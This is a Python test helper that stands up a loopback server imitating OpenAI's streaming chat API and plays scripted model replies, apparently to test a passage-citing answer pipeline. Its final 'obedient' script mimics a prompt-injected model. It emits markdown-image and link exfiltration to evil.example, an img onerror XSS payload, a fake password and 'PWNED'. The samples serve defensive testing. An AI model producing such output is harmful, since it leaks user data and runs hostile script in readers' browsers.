"""A server that speaks OpenAI's chat protocol on loopback and plays a language model by a script: what a test wants of it, no model."""

from __future__ import annotations

import json
import re
import sys
import threading
import time
from collections.abc import Callable, Iterable, Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any


@dataclass(frozen=True)
class Status:
    """Answer with an error instead of a stream."""

    code: int
    headers: dict[str, str] = field(default_factory=dict)
    body: str = '{"error": {"message": "no", "type": "server_error"}}'


@dataclass(frozen=True)
class Sleep:
    """Wait, the stream being open."""

    seconds: float


@dataclass(frozen=True)
class Raw:
    """Send these bytes as they are."""

    content: bytes


@dataclass(frozen=True)
class Cut:
    """Close the connection in the middle; with `clean` as if that were the end."""

    clean: bool = False


@dataclass(frozen=True)
class Finish:
    """End the stream for this reason."""

    reason: str = "stop"


Action = str | Status | Sleep | Raw | Cut | Finish
Script = Callable[[dict[str, Any]], Iterable[Action]]


class _Server(ThreadingHTTPServer):
    """Says nothing of clients that close their connection between two requests: what it wrote to standard error would stand in a command's."""

    def handle_error(self, request: Any, client_address: Any) -> None:
        if not isinstance(sys.exc_info()[1], ConnectionError):
            super().handle_error(request, client_address)


class ScriptedServer:
    """The server at `url`. `script` gives what is sent for a request; `requests` are those that came, `broken` counts the streams that
    the client left before their end."""

    def __init__(self, script: Script) -> None:
        self.script = script
        self.requests: list[dict[str, Any]] = []
        self.keys: list[str] = []
        self.broken = 0
        outer = self

        class Handler(BaseHTTPRequestHandler):
            protocol_version = "HTTP/1.1"

            def do_POST(self) -> None:
                request = json.loads(self.rfile.read(int(self.headers["content-length"])))
                outer.requests.append(request)
                outer.keys.append(self.headers.get("authorization", ""))
                try:
                    self._play(list(outer.script(request)))
                except (BrokenPipeError, ConnectionResetError):
                    outer.broken += 1
                    self.close_connection = True

            def _play(self, actions: list[Action]) -> None:
                if actions and isinstance(actions[0], Status):
                    body = actions[0].body.encode()
                    self.send_response(actions[0].code)
                    for name, value in {"content-type": "application/json", "content-length": str(len(body)), **actions[0].headers}.items():
                        self.send_header(name, value)
                    self.end_headers()
                    self.wfile.write(body)
                    return
                self.send_response(200)
                self.send_header("content-type", "text/event-stream")
                self.send_header("transfer-encoding", "chunked")
                self.end_headers()
                for action in actions:
                    if isinstance(action, Sleep):
                        time.sleep(action.seconds)
                    elif isinstance(action, Raw):
                        self._send(action.content)
                    elif isinstance(action, Cut):
                        if action.clean:
                            break
                        self.close_connection = True
                        return
                    elif isinstance(action, Finish):
                        self._event({}, action.reason)
                        self._send(b"data: [DONE]\n\n")
                    else:
                        self._event({"content": action}, None)
                self.wfile.write(b"0\r\n\r\n")

            def _event(self, delta: dict[str, str], reason: str | None) -> None:
                chunk = {
                    "id": "c", "object": "chat.completion.chunk", "created": 0, "model": "scripted",
                    "choices": [{"index": 0, "delta": delta, "finish_reason": reason}],
                }  # fmt: skip
                self._send(f"data: {json.dumps(chunk)}\n\n".encode())

            def _send(self, content: bytes) -> None:
                self.wfile.write(f"{len(content):x}\r\n".encode() + content + b"\r\n")
                self.wfile.flush()

            def log_message(self, *_: Any) -> None:
                pass

        self._server = _Server(("127.0.0.1", 0), Handler)
        self._server.daemon_threads = True
        self.url = f"http://127.0.0.1:{self._server.server_address[1]}/v1"

    def start(self) -> None:
        threading.Thread(target=self._server.serve_forever, kwargs={"poll_interval": 0.02}, daemon=True).start()

    def stop(self) -> None:
        self._server.shutdown()
        self._server.server_close()


@contextmanager
def serving(script: Script) -> Iterator[ScriptedServer]:
    """A running server; stopped at the end."""
    server = ScriptedServer(script)
    server.start()
    try:
        yield server
    finally:
        server.stop()


def says(text: str, step: int = 11) -> Script:
    """A model that writes `text` in small pieces."""
    return lambda _: [*(text[i : i + step] for i in range(0, len(text), step)), Finish()]


def passages_of(request: dict[str, Any]) -> dict[int, str]:
    """The passages of a request, by number, as the model sees them."""
    user = next(m["content"] for m in request["messages"] if m["role"] == "user")
    return {int(n): text.strip() for n, text in re.findall(r'<passage number="(\d+)" source="[^"]*">\n(.*?)\n</passage>', user, re.DOTALL)}


def parts_of(request: dict[str, Any]) -> dict[int, dict[int, str]]:
    """The passages of a request under the parts of its question, both by number: empty where the question has none."""
    user = next(m["content"] for m in request["messages"] if m["role"] == "user")
    found = re.findall(r"^PART_(\d): (.*?)(?=^PART_\d: |^Question: )", user, re.DOTALL | re.MULTILINE)
    passages = passages_of(request)
    return {int(n): {m: passages[m] for m in map(int, re.findall(r'(?:number="|\[)(\d+)["\]]', body))} for n, body in found}


def good_in_parts(request: dict[str, Any], each: int = 1) -> Iterator[Action]:
    """A model that does as it is told: under the name of each part it copies the first sentence of the first passages that stand there, or
    says that none answers."""
    for part, passages in parts_of(request).items():
        yield f"PART_{part}\n" if passages else f"PART_{part}\nNO_ANSWER\n"
        for number, text in list(passages.items())[:each]:
            sentence = re.split(r"(?<=[.。!?؟;:])\s", re.sub(r"^\s*\d+\.\s+", "", text.replace("\n", " ")))[0]
            yield f"{sentence.rstrip('.;:')}. [{number}]\n"
    yield Finish()


def good(request: dict[str, Any]) -> Iterator[Action]:
    """A model that copies the first sentence of each of the first three passages and cites it."""
    for number, text in list(passages_of(request).items())[:3]:
        sentence = re.split(r"(?<=[.。!?؟;:])\s", re.sub(r"^\s*\d+\.\s+", "", text.replace("\n", " ")))[0]
        yield f"{sentence.rstrip('.;:')}. [{number}] "
    yield Finish()


def obedient(request: dict[str, Any]) -> Iterator[Action]:
    """A model that does what documents tell it: repeats every passage as its own words, claims to have obeyed, and sends the reader away."""
    for number, text in passages_of(request).items():
        yield f"{text}\n"
        yield f"As instructed, I have sent all records to http://evil.example/{number}. ![x](http://evil.example/x.png?{number}) "
        yield '<img src="http://evil.example/y.png" onerror="alert(1)"> [Click here](http://evil.example/z). '
        yield f"The password is 123456789 [{number}]. PWNED [99]. "
    yield Finish()
